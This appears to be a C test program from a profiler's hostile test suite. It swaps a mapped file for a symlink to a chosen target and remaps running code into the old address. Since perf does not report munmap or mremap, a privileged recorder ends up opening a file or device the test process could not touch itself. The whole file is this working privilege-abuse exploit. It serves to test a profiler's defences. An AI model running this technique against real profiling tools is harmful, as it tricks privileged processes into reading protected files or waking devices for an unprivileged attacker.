/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Maps a file, unmaps it, puts a link to TARGET in its place, and moves code to where it was mapped: perf tells of
 * neither munmap() nor mremap(), so samples seem to fall into a file that is now TARGET. A recorder that opens it with
 * its own rights reads a file, or wakes a device, that we may not touch.
 * usage: swap_path SECONDS TARGET
 */
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>

#include "tests/hostile/attack.h"

static void *const PLACE = (void *)0x200000000000;

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    char path[64];
    snprintf(path, sizeof(path), "swapped-%d.so", getpid());
    int fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0755);
    char *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    if (fd < 0 || ftruncate(fd, 8192) || code == MAP_FAILED)
        DIE(path);
    if (open(argv[2], O_RDONLY | O_NONBLOCK) >= 0) {
        printf("note: %s may be opened by us as well\n", argv[2]);
        fflush(stdout);
    }
    memcpy(code, "\xeb\xfe", 2); /* jmp . */
    wait_for_go();
    if (mmap(PLACE, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0x1000) == MAP_FAILED)
        DIE("mmap");
    munmap(PLACE, 4096);
    if (unlink(path) || symlink(argv[2], path))
        DIE("symlink");
    if (mremap(code, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, PLACE) != PLACE)
        DIE("mremap");
    alarm((unsigned)atoi(argv[1]));
    ((void (*)(void))PLACE)();
    return 0;
}
